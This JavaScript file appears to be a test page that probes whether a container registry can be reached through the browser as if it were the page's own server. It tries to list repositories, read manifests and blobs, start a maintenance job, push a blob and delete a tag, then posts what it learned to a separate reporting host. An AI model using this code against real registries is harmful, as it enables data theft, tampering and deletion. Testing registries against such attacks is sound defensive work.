// What a page may try against a registry that the browser takes for the page's own server. Each attempt resolves with
// what the page has learned, or with "done"; with "" if the registry has refused it.
const manifest = `/v2/${target.repository}/manifests/${target.tag}`;

const read = path => fetch(path).then(answer => answer.ok ? answer.text() : "");
const send = (path, options) => fetch(path, options).then(answer => answer.ok ? "done" : "");

const attempts = {
  "read the base": () => read("/v2/"),
  "read the list of repositories": () => read("/v2/_catalog"),
  "read the tags": () => read(`/v2/${target.repository}/tags/list`),
  "read a manifest": () => read(manifest),
  "read a blob": () => read(`/v2/${target.repository}/blobs/${target.blobs.script}`),
  "read the front page": () => read("/"),
  "start a job": () => send("/entrepot/v1/maintain", {
    method: "POST", body: JSON.stringify({startJob: {scrub: {}}}), headers: {"Content-Type": "application/json"}}),
  "start an upload": () => send("/v2/pushed/upload/blobs/uploads/", {method: "POST"}),
  "push a blob": () => send(`/v2/pushed/blob/blobs/uploads/?digest=${target.pushed}`, {method: "POST", body: "pushed"}),
  "delete a tag": () => send(manifest, {method: "DELETE"}),
};

async function attackAll() {
  const learned = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      learned[name] = await attempt();
    } catch (error) {
      learned[name] = "";
    }
  }
  await fetch(target.home + "/report", {method: "POST", body: JSON.stringify(learned)});
}
attackAll();
